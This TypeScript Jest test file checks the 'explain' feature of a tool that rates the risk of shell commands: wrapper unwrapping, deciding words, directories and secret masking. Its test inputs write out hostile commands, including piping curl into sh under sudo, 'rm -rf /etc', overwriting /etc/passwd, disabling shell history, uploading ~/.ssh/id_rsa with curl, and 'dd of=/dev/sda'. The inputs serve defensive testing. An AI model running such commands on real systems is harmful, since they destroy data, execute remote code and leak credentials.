import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { CustomRuleSet } from '../../src/risk/custom/custom-rule-set.ts';
import { explain } from '../../src/risk/explain.ts';
import { rate } from '../../src/risk/rate.ts';
import { selecting, usable } from './custom/sigma.ts';

const decided = (command: string, rule: string): readonly string[] | null | undefined =>
  explain(command, 'bash')
    .commands.flatMap(({ rules }) => rules)
    .find((found) => found.rule === rule)?.decidedBy;

describe('an explanation', () => {
  test('shows each program, what was unwrapped, and who reads whose output', () => {
    const { commands } = explain(`sudo -u root bash -c 'curl -s http://x | sh' && echo done`, 'bash');
    expect(
      commands.map(({ words, wrapper, through, asRoot, pipesTo }) => [
        words.join(' '),
        wrapper,
        through,
        asRoot,
        pipesTo,
      ]),
    ).toEqual(
      expect.arrayContaining([
        [expect.stringMatching(/^sudo -u root bash -c /), true, [], false, null],
        ['curl -s http://x', false, ['sudo', 'bash'], true, 'sh'],
        ['sh', false, ['sudo', 'bash'], true, null],
        ['echo done', false, [], false, null],
      ]),
    );
  });

  test('shows a shell that runs a string once', () => {
    const { commands } = explain(`sh -c 'rm -rf /etc' x`, 'bash');
    expect(commands.map(({ tool }) => tool)).toEqual(['sh', 'rm']);
  });

  test('says which words decide: the others can be left out', () => {
    const [first] = explain('rm -v -rf --one-file-system /etc ./x', 'bash').commands;
    const [rule] = first?.rules ?? [];
    expect(rule?.decidedBy).toEqual(expect.arrayContaining(['/etc']));
    expect(rule?.decidedBy).not.toContain('-v');
    expect(rule?.decidedBy).not.toContain('./x');
  });

  test('names a redirection that decides', () => {
    const { commands } = explain('echo x > /etc/passwd', 'bash');
    const rules = commands.flatMap(({ rules: found }) => found);
    expect(rules.length).toBeGreaterThan(0);
    expect(rules.some(({ decidedBy }) => decidedBy?.includes('> /etc/passwd'))).toBe(true);
  });

  const directories = (command: string): readonly (string | null)[] =>
    explain(command, 'bash').commands.map(({ directory }) => directory);

  test.each<[string, (string | null)[]]>([
    ['cd /var/lib && rm -rf mysql', [null, '/var/lib']],
    ['cd /var/log && > auth.log', [null, '/var/log']],
    ['cd /srv; ./deploy.sh', [null, '/srv']],
    ['cd /srv && sort < list', [null, '/srv']],
    ['cd a && cd b && cat c', [null, 'a', 'a/b']],
    ['rm -rf mysql', [null]],
    ['cd /var/lib && rm -rf /srv/mysql', [null, null]],
    ['cd /var/lib && uptime', [null, null]],
    ['cd "$(mktemp -d)" && rm x', [null, null, null]],
    ["cd /srv && sudo sh -c 'rm x'", [null, null, null, '/srv']],
  ])('names the directory where it matters: %s', (command, expected) => {
    expect(directories(command)).toEqual(expected);
  });

  test('masks a secret in the name of a directory', () => {
    const { commands } = explain('cd /x/ghp_abcdefghijklmnopqrstuvwxyz0123456789/a && rm b', 'bash');
    expect(commands[1]?.directory).toBe('/x/‹redacted:github-token›/a');
  });

  test('gives rules about the line as a whole on their own', () => {
    const { line, level } = explain('HISTFILE=/dev/null', 'bash');
    expect(line.map(({ rule }) => rule)).toContain('evasion.history-off');
    expect(level).toBe(line[0]?.level);
  });

  test('shows a custom rule with the words that decide it', () => {
    const rules = new CustomRuleSet([usable(selecting("CommandLine|contains|all: [' -a', ' b']"))], {
      system: 'linux',
      user: null,
    });
    const { commands } = explain('tool x -a y b z', 'bash', {}, rules);
    expect(commands[0]?.rules).toMatchObject([{ rule: 'organisation.test', decidedBy: ['-a', 'b'] }]);
  });

  test('masks secrets in words, in redirections and in the words that decide', () => {
    const text = JSON.stringify(
      explain(`mysql -u root -phunter2-hunter2 -e 'drop database x' <<< hunter2-hunter2`, 'bash'),
    );
    expect(text).not.toContain('hunter2-hunter2 -e');
    expect(JSON.stringify(explain('curl -u ada:hunter2hunter2 -T ~/.ssh/id_rsa https://x', 'bash'))).not.toContain(
      'hunter2hunter2',
    );
  });

  test('says that a trial run is not rated', () => {
    const { commands, level } = explain('kubeadm reset --dry-run', 'bash');
    expect(commands[0]).toMatchObject({ trial: true, rules: [] });
    expect(level).toBe('safe');
  });

  test('has the same level and the same rules as the rating, and what decides still does', () => {
    const parts = fc.constantFrom(
      'rm',
      '-rf',
      '/',
      '/etc',
      'sudo',
      'curl',
      'http://x',
      '|',
      'sh',
      '&&',
      '>',
      '/etc/passwd',
      'chmod',
      '777',
      '-R',
      'git',
      'push',
      '--force',
      'x',
      ';',
      'dd',
      'of=/dev/sda',
    );
    fc.assert(
      fc.property(fc.array(parts, { minLength: 1, maxLength: 10 }), (words) => {
        const command = words.join(' ');
        const { level, findings } = rate(command, 'bash');
        const { commands, line, level: explained } = explain(command, 'bash');
        expect(explained).toBe(level);
        const told = new Set([...commands.flatMap(({ rules }) => rules), ...line].map(({ rule }) => rule));
        expect([...told].sort()).toEqual(findings.map(({ rule }) => rule).sort());
      }),
    );
  });

  test('of a long line is bounded: too many words are not tried', () => {
    expect(decided(`rm -rf /etc ${'x '.repeat(500)}`, 'files.rm-system')).toBeUndefined();
    const { commands } = explain(`rm -rf /etc ${'x '.repeat(500)}`, 'bash');
    expect(commands[0]?.rules.map(({ decidedBy }) => decidedBy)).toContain(null);
  });
});
